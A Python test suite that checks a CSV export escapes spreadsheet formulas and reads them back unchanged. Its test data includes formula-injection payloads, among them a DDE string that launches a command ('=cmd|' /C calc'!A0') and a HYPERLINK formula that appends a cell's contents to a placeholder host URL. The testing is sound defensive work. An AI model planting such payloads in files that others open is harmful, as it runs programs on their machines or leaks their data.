"""What a spreadsheet would run is a text in what we export, and comes back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.schemas.values.csv_cells import as_written, csv_text, harmless
from app.services.reports.lines import ReportLine, lines_of

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-", "＝1+1", "＠x"),
    *(
        '=HYPERLINK("http://x/"&A2)',
        "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+4915112345678 x",
        "'=1",
    ),
]
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_a_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert as_written(f"'{text}") == text
    [cells] = csv.reader(io.StringIO(csv_text([[text, text]]), newline=""))
    assert cells == [f"'{text}"] * 2


@pytest.mark.parametrize(
    "cell", ["-5", "+5", "-5.25e-7", "-.5", "a=1", "name=value", "'quoted'", "", " =1", -5, -0.5, None, True]
)
def test_numbers_and_other_texts_stay(cell: object) -> None:
    assert harmless(cell) == cell


@given(st.text(st.sampled_from("=+-@\t\r\n'＝1.e \"a,"), max_size=6))
def test_every_text_comes_back_and_begins_no_formula(text: str) -> None:
    written = str(harmless(text))
    assert as_written(written) == text
    assert not written.startswith(BEGINNINGS) or written.lstrip("+-")[:1] in set("0123456789.")


def test_a_report_of_ours_is_read_as_it_was() -> None:
    rows: list[list[object]] = [["metric", "value", "slice"], ["=mae", -5.5, "-a=b"], ["'+x", "-7", "@"]]
    columns, lines = lines_of(csv_text(rows).encode(), ",")
    assert columns == rows[0]
    assert [line.cells for line in lines if isinstance(line, ReportLine)] == [
        ["=mae", "-5.5", "-a=b"],
        ["'+x", "-7", "@"],
    ]
